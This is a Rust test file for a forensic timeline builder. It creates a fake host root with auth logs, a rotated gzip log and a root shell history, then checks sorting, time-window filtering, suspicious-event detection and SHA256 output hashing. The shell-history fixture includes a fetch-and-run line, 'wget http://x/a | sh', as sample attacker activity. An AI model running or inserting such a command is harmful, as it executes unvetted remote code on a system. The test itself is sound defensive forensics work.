//! The whole run over a small examined root: outputs exist, are sorted, cut by the window, hashed.

use std::os::unix::fs::MetadataExt;

use super::*;

/// Walk entries for the files a test created (the real walker is `examine::walk`).
fn entries(root: &Path, rels: &[&str]) -> Vec<Result<(WalkEntry, i64), WalkProblem>> {
    rels.iter()
        .map(|r| {
            let m = fs::symlink_metadata(root.join(r)).unwrap();
            Ok((
                WalkEntry {
                    path: format!("/{r}").into_bytes(),
                    mode: m.mode(),
                    uid: m.uid(),
                    gid: m.gid(),
                    size: m.size(),
                    inode: m.ino(),
                    atime: Some((m.atime(), m.atime_nsec() as u32)),
                    mtime: Some((m.mtime(), m.mtime_nsec() as u32)),
                    ctime: Some((m.ctime(), m.ctime_nsec() as u32)),
                    crtime: None,
                    link_target: None,
                },
                m.mtime(),
            ))
        })
        .collect()
}

fn set_mtime(p: &Path, secs: i64) {
    let t = std::time::UNIX_EPOCH + std::time::Duration::from_secs(secs as u64);
    File::options()
        .write(true)
        .open(p)
        .unwrap()
        .set_modified(t)
        .unwrap();
}

#[test]
fn a_root_becomes_a_sorted_hashed_timeline() {
    let root = tempfile::tempdir().unwrap();
    let r = root.path();
    fs::create_dir_all(r.join("etc")).unwrap();
    fs::create_dir_all(r.join("var/log")).unwrap();
    fs::create_dir_all(r.join("root")).unwrap();
    fs::write(r.join("etc/hostname"), "web1\n").unwrap();
    fs::write(r.join("etc/timezone"), "+01:00\n").unwrap();
    fs::write(
        r.join("var/log/auth.log"),
        "Mar  3 10:00:00 web1 sshd[1]: Accepted password for root from 203.0.113.9 port 22 ssh2\n\
         junk\n",
    )
    .unwrap();
    set_mtime(&r.join("var/log/auth.log"), 1_709_500_000); // 2024-03-03
    use std::io::Write as _;
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gz.write_all(b"Feb 28 09:00:00 web1 useradd[2]: new user: name=x, UID=1001\n")
        .unwrap();
    fs::write(r.join("var/log/auth.log.2.gz"), gz.finish().unwrap()).unwrap();
    set_mtime(&r.join("var/log/auth.log.2.gz"), 1_709_200_000); // 2024-02-29
    fs::write(
        r.join("root/.bash_history"),
        "#1709460000\nwget http://x/a | sh\n#1609460000\nls\n",
    )
    .unwrap();

    let out = tempfile::tempdir().unwrap();
    let opts = Options {
        out: out.path().join("tl"),
        from: parse_time("2024-01-01", false),
        to: None,
        sort_budget: 300, // force spills
        ..Default::default()
    };
    let walk = entries(
        r,
        &[
            "etc",
            "etc/hostname",
            "var/log/auth.log",
            "var/log/auth.log.2.gz",
            "root/.bash_history",
        ],
    );
    let s = run(r, walk, &opts, &mut |_| {}).unwrap();
    assert_eq!(s.host, "web1");
    assert_eq!(s.zone.name, "+01:00");
    assert_eq!(s.bodyfile_entries, 5);
    assert_eq!(s.logs.len(), 3);
    assert_eq!(
        s.logs[0].path, "/var/log/auth.log.2.gz",
        "oldest rotation first"
    );
    assert_eq!(s.unparsed, 1);
    assert_eq!(s.outside_window, 1, "the 2020 command is before --from");
    assert_eq!(s.timeline.events, 3);
    let first = s.timeline.first_suspicious.as_ref().unwrap();
    assert_eq!(first.datetime, "2024-02-28T08:00:00+00:00");
    assert_eq!(first.why, "user account created");

    let d = &opts.out;
    let jsonl = fs::read_to_string(d.join("timeline.jsonl")).unwrap();
    let times: Vec<i64> = jsonl
        .lines()
        .map(|l| {
            serde_json::from_str::<serde_json::Value>(l).unwrap()["timestamp"]
                .as_i64()
                .unwrap()
        })
        .collect();
    assert!(times.windows(2).all(|w| w[0] <= w[1]), "sorted: {times:?}");
    assert_eq!(
        fs::read_to_string(d.join("timeline.csv"))
            .unwrap()
            .lines()
            .count(),
        4
    );
    assert_eq!(
        fs::read_to_string(d.join("bodyfile.txt"))
            .unwrap()
            .lines()
            .count(),
        5
    );
    assert!(
        fs::read_to_string(d.join("unparsed.jsonl"))
            .unwrap()
            .contains("junk")
    );
    assert!(!d.join(".sort").exists());

    // SHA256SUMS checks with coreutils.
    let o = std::process::Command::new("sha256sum")
        .arg("-c")
        .arg("SHA256SUMS")
        .current_dir(d)
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stdout));
    assert_eq!(
        String::from_utf8_lossy(&o.stdout).matches(": OK").count(),
        OUTPUTS.len()
    );

    // A second run into the same directory is refused rather than mixed in.
    let again = entries(r, &["etc"]);
    assert!(matches!(
        run(r, again, &opts, &mut |_| {}),
        Err(TimelineError::OutNotEmpty { .. })
    ));
}

#[test]
fn window_times_parse() {
    assert_eq!(parse_time("1970-01-02", false), Some(86_400_000_000));
    assert_eq!(parse_time("1970-01-01", true), Some(86_400_000_000 - 1));
    assert_eq!(parse_time("1970-01-01 00:01", false), Some(60_000_000));
    assert_eq!(parse_time("1970-01-01T01:00:00+01:00", false), Some(0));
    assert_eq!(parse_time("@5", false), Some(5_000_000));
    assert_eq!(parse_time("yesterday", false), None);
}
